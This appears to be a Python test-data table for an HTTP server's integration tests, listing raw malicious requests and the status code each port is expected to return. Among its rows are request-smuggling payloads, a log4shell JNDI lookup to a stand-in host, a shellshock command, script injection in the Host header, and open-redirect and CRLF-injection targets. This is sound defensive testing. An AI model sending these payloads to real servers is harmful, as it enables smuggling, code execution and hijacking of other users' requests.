"""A table of what attackers and scanners send to an HTTP port, and of how each of our ports responds.

Sources: the advisories of twisted.web (CVE-2020-10108 and 10109, CVE-2022-24801, CVE-2022-39348, CVE-2023-46137,
CVE-2024-41671, CVE-2024-41810), of autobahn (CVE-2020-35678), of nova (CVE-2021-3654), RFC 9112, and what port
scanners send.

``METHOD`` and ``TARGET`` stand for valid values at a port: the API gets POST (and answers 405), the noVNC port
serves its page, the XVP port refuses the token (401).  A behaviour is one status, or several; then the port closes
the connection, except with ``stays()``.
"""

from typing import NamedTuple

from tests.integration.http_ports import API, NOVNC, SMUGGLED, XVP, Outcome

GOOD = {API: (b"POST", b"/v2.1/flavors"), NOVNC: (b"GET", b"/vnc_auto.html"), XVP: (b"GET", b"/console?token=wrong")}
LINE = b"METHOD TARGET HTTP/1.1\r\n"
HOST = b"Host: localhost\r\n"
HEAD = LINE + HOST
END = b"\r\n"
SECOND = b"GET /%b?token=%b HTTP/1.1\r\nHost: localhost\r\n\r\n" % (SMUGGLED, SMUGGLED)
CHUNKED = b"Transfer-Encoding: chunked\r\n"
NOTHING: tuple[int, ...] = ()
"""Closed without an answer."""


class Attack(NamedTuple):
    """A row.

    :ivar raw: what the client sends.
    :ivar expected: the outcome at each port.
    """

    name: str
    raw: bytes
    expected: dict[str, Outcome]

    def for_port(self, port: str) -> bytes:
        """The bytes for one port."""
        method, target = GOOD[port]
        return self.raw.replace(b"METHOD", method).replace(b"TARGET", target)


class Stays(NamedTuple):
    """One response, after which the connection stays open."""

    status: int


def stays(status: int) -> Stays:
    return Stays(status)


Behaviour = int | Stays | tuple[int, ...]


def row(name: str, raw: bytes, api: Behaviour = 400, novnc: Behaviour = 400, xvp: Behaviour = 400) -> Attack:
    """A row; by default, all ports refuse with 400."""

    def outcome(behaviour: Behaviour) -> Outcome:
        if isinstance(behaviour, Stays):
            return Outcome((behaviour.status,), False)
        return Outcome((behaviour,) if isinstance(behaviour, int) else behaviour, True)

    return Attack(name, raw, {API: outcome(api), NOVNC: outcome(novnc), XVP: outcome(xvp)})


def body(name: str, fields: bytes, content: bytes = b"", api: Behaviour = 400, novnc: Behaviour = 400) -> Attack:
    """A request with a body.  The XVP port ignores fields and does not read a body: it only looks at the token."""
    control = b"\0" in fields or b"\x0b" in fields
    return row(name, HEAD + fields + END + content, api, novnc, xvp=400 if control else 401)


LENGTHS = [
    body("both lengths, CL first", b"Content-Length: 6\r\n" + CHUNKED, b"0\r\n\r\n" + SECOND),
    body("both lengths, TE first", CHUNKED + b"Content-Length: 6\r\n", b"0\r\n\r\n" + SECOND),
    body("one length twice", b"Content-Length: 2\r\nContent-Length: 2\r\n", b"{}" + SECOND),
    body("two lengths", b"Content-Length: 0\r\nContent-Length: %d\r\n" % len(SECOND), SECOND),
    *(
        body(f"Content-Length: {value!r}", b"Content-Length: " + value + b"\r\n", b"{}" + SECOND)
        for value in (
            b"2, 2", b"2,2", b"+2", b"-2", b"-0", b"2 2", b"2_0", b"0x2", b"2.0", b"1e1", b"2;", b'"2"', b"\xb2",
            "\uff12".encode(), b"", b"two", b"2\x0b", b"9" * 16, b"9" * 5000,
        )
    ),
    body("Content-Length: a correct one", b"Content-Length:2 \r\n", b"{}", api=stays(405)),
    *(
        body(f"Transfer-Encoding: {value!r}", b"Transfer-Encoding: " + value + b"\r\n", b"0\r\n\r\n" + SECOND)
        for value in (
            b"identity", b"gzip", b"gzip, chunked", b"chunked, identity", b"chunked, chunked", b"xchunked",
            b"chunked;q=1", b'"chunked"', b"\x0bchunked", b"chunked\x0b", b"chunked\x00", b"chu nked", b"",
            b",chunked", b"trailers",
        )
    ),
    body("Transfer-Encoding twice", CHUNKED * 2, b"0\r\n\r\n" + SECOND),
    body("two Transfer-Encodings", b"Transfer-Encoding: identity\r\n" + CHUNKED, b"0\r\n\r\n" + SECOND),
    body("Transfer-Encoding in another case", b"tRANSFER-ENCODING: ChUnKeD\r\n", b"0\r\n\r\n", api=stays(405)),
    # Some servers read these names as those with a hyphen; here they are unknown, and SECOND is never a request.
    body("Transfer_Encoding", b"Transfer_Encoding: chunked\r\n", b"0\r\n\r\n" + SECOND, api=405),
    body("Content_Length", b"Content_Length: 6\r\n", b"0\r\n\r\n" + SECOND, api=405),
]  # fmt: skip

CHUNKS = [
    *(
        body(f"chunk {chunk!r}"[:60], CHUNKED, chunk + b"\r\n0\r\n\r\n" + SECOND)
        for chunk in (
            b"x\r\n{}", b"-2\r\n{}", b"+2\r\n{}", b"0x2\r\n{}", b"2 \r\n{}", b" 2\r\n{}", b"2\x00\r\n{}", b"2_\r\n{}",
            b"\r\n{}", b"2\r\n{}x", b"2\n{}", b"1" * 2000, b"2;" + b"x" * 2000 + b"\r\n{}",
            b"2;a\nb\r\n{}", b"2;a\x00\r\n{}",
        )
    ),
    body("a chunk of 16 EiB", CHUNKED, b"f" * 17 + b"\r\n{}\r\n" + SECOND, api=413),
    body("a chunk without its end", CHUNKED, b"2\r\n{}0\r\n\r\n" + SECOND),
    body("a chunk that ends in LF", CHUNKED, b"2\r\n{}\n0\r\n\r\n" + SECOND),
    body("chunks", CHUNKED, b"2\r\n{}\r\n0\r\n\r\n", api=stays(405)),
    body("a chunk's extension", CHUNKED, b'2;name="value"\r\n{}\r\n0;x\r\n\r\n', api=stays(405)),
    body("trailers", CHUNKED, b"0\r\nX-Trailer: 1\r\n\r\n", api=stays(405)),
    body("trailers with header names", CHUNKED, b"0\r\nContent-Length: 9\r\nX-Auth-Token: x\r\n\r\n", api=stays(405)),
    body("endless trailers", CHUNKED, b"0\r\n" + b"X: y\r\n" * 20_000),
    body("a second request after the last chunk", CHUNKED, b"0\r\n\r\n" + SECOND, api=405),
]  # fmt: skip

LINES = [
    row("LF for CRLF in one field", LINE + HOST + b"A: b\nB: c\r\n" + END),
    row("LF before the end", HEAD + b"A: b\n\r\n"),
    row("LF LF in the middle", HEAD + b"A: b\n\n" + SECOND),
    row("CR in a value", HEAD + b"A: b\rc\r\n" + END),
    row("CR for CRLF", HEAD.replace(b"\r\n", b"\r") + b"\r\r", NOTHING, 408),
    row("a folded field", HEAD + b"A: b\r\n c\r\n" + END),
    row("a folded field, by a tab", HEAD + b"A: b\r\n\tContent-Length: 5\r\n" + END),
    row("a first field that is folded", LINE + b" A: b\r\n" + HOST + END),
    row("a folded length", HEAD + b"Content-Length:\r\n 5\r\n" + END),
    row("NUL in a value", HEAD + b"A: b\0c\r\n" + END),
    row("NUL in a name", HEAD + b"A\0: b\r\n" + END),
    row("a control character in a value", HEAD + b"A: b\x07c\r\n" + END),
    row("DEL in a value", HEAD + b"A: b\x7fc\r\n" + END),
    row("an escape in a value", HEAD + b"User-Agent: \x1b[2J\r\n" + END),
    row("a control character in the target", b"METHOD TARGET\x0b HTTP/1.1\r\n" + HOST + END),
    row("NUL in the target", b"METHOD TARGET\0 HTTP/1.1\r\n" + HOST + END),
    row("a space before the colon", HEAD + b"A : b\r\n" + END),
    row("a tab before the colon", HEAD + b"Content-Length\t: 5\r\n" + END),
    row("no colon", HEAD + b"nothing\r\n" + END),
    row("no name", HEAD + b": b\r\n" + END),
    row("an invalid field name", HEAD + b"(x): b\r\n" + END),
    row("a name beyond ASCII", HEAD + "Größe: b\r\n".encode() + END),
    row("many fields", HEAD + b"A: b\r\n" * 101 + END, 400, 431, 400),
    row("a huge head", HEAD + b"A: " + b"b" * 20_000 + b"\r\n" + END, 431, 431, 400),
    row("a huge head of small fields", HEAD + b"A: bcdefgh\r\n" * 2000 + END, 400, 431, 400),
    row("a huge target", b"METHOD TARGET" + b"x" * 20_000 + b" HTTP/1.1\r\n" + HOST + END, 431, 431, 400),
    row("a head without an end", HEAD + b"A: b", NOTHING, 408, 400),
]

REQUEST_LINES = [
    row("HTTP/0.9", b"GET /v2.1\r\n", 400, 408, 400),
    row("HTTP/0.9, with an empty line", b"GET /v2.1\r\n\r\n"),
    row("HTTP/2.0 in a request line", b"METHOD TARGET HTTP/2.0\r\n" + HOST + END),
    row("HTTP/1.10", b"METHOD TARGET HTTP/1.10\r\n" + HOST + END),
    row("http/1.1", b"METHOD TARGET http/1.1\r\n" + HOST + END),
    row("no minor version", b"METHOD TARGET HTTP/1.\r\n" + HOST + END),
    row("two spaces", b"METHOD  TARGET HTTP/1.1\r\n" + HOST + END),
    row("a tab", b"METHOD\tTARGET\tHTTP/1.1\r\n" + HOST + END),
    row("a space in the target", b"METHOD TARGET x HTTP/1.1\r\n" + HOST + END),
    row("a space before the method", b" METHOD TARGET HTTP/1.1\r\n" + HOST + END),
    row("HTTP/2's preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    row("another case of the method", b"get TARGET HTTP/1.1\r\n" + HOST + END, stays(405), 405, 400),
    row("absolute form", b"METHOD http://localhost/v2.1 HTTP/1.1\r\n" + HOST + END, stays(405), 404, 400),
    row(
        "absolute form, of another host",
        b"METHOD http://evil.example/ HTTP/1.1\r\n" + HOST + END,
        stays(403),
        stays(200),
        400,
    ),
    row("authority form", b"METHOD evil.example:25 HTTP/1.1\r\n" + HOST + END, 400, 404, 400),
    row("asterisk form", b"METHOD * HTTP/1.1\r\n" + HOST + END, 400, 404, 400),
    row("CONNECT", b"CONNECT evil.example:25 HTTP/1.1\r\n" + HOST + END, 400, 405, 400),
    row("an open redirect", b"METHOD //evil.example/%2F.. HTTP/1.1\r\n" + HOST + END, stays(405), 404, 400),
    row("an open redirect with a backslash", b"METHOD /\\evil.example HTTP/1.1\r\n" + HOST + END, stays(405), 404, 400),
    row("CRLF in the target", b"METHOD /%0d%0aLocation:%20//evil HTTP/1.1\r\n" + HOST + END, stays(405), 404, 400),
]

HOSTS = [
    row("two Hosts", HEAD + b"Host: evil.example\r\n" + END, 400, 400, 401),
    row("one Host twice", HEAD + HOST + END, 400, 400, 401),
    row("a Host of HTML", LINE + b"Host: <script>alert(1)</script>\r\n" + END, 400, 400, 401),
    row("a Host with a path", LINE + b"Host: localhost/x\r\n" + END, 400, 400, 401),
    row("a Host with a user", LINE + b"Host: localhost@evil.example\r\n" + END, 400, 400, 401),
    row("a Host with a policy", LINE + b"Host: x; script-src *\r\n" + END, 400, 400, 401),
    row("an empty Host", LINE + b"Host:\r\n" + END, 400, 400, 401),
    row("no Host", LINE + END, 400, 400, 401),
]

PIPELINES = [
    row("two requests", (HEAD + END) * 2, 405, 400, 401),
    row("a hundred requests", (HEAD + END) * 100, 405, 400, 401),
    row("a request and half of another", HEAD + END + LINE, 405, 400, 401),
    row("a request and garbage", HEAD + END + b"\0\xff", 405, 400, 401),
    body("a body and a request", b"Content-Length: 2\r\n", b"{}" + SECOND, api=405),
    body("a request in a GET's body", b"Content-Length: %d\r\n" % len(SECOND), SECOND, api=stays(405)),
]

SCANNERS = [
    row("TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40) + b"\r\n\r\n"),
    row("SSH", b"SSH-2.0-OpenSSH_9.2\r\n", 400, 408, 400),
    row("RDP", b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0\1\0\x08\0\3\0\0\0", NOTHING, 408, 400),
    row("RFB", b"RFB 003.008\n", NOTHING, 408, 400),
    row("SMB", b"\0\0\0\xa4\xffSMB\x72" + bytes(50), NOTHING, 408, 400),
    row("a health check", b"", NOTHING, NOTHING, NOTHING),
    row("SIP", b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm\r\n\r\n"),
    row("RTSP", b"OPTIONS / RTSP/1.0\r\n\r\n"),
    row("zeros", bytes(30_000), 431, 431, 400),
    row("LFs", b"\n" * 50, NOTHING, 400, 400),
    row("CRLFs", b"\r\n" * 50),
    row("log4shell", HEAD + b"User-Agent: ${jndi:ldap://evil/a}\r\n" + END, stays(405), stays(200), 401),
    row("shellshock", HEAD + b"User-Agent: () { :; }; /bin/id\r\n" + END, stays(405), stays(200), 401),
    row("HTTP/2 in clear", HEAD + b"Upgrade: h2c\r\nConnection: Upgrade\r\n" + END, stays(405), stays(200), 401),
    row("a cookie bomb", HEAD + b"Cookie: " + b"a=b; " * 1000 + b"\r\n" + END, stays(405), stays(200), 401),
]

TABLE = [*LENGTHS, *CHUNKS, *LINES, *REQUEST_LINES, *HOSTS, *PIPELINES, *SCANNERS]
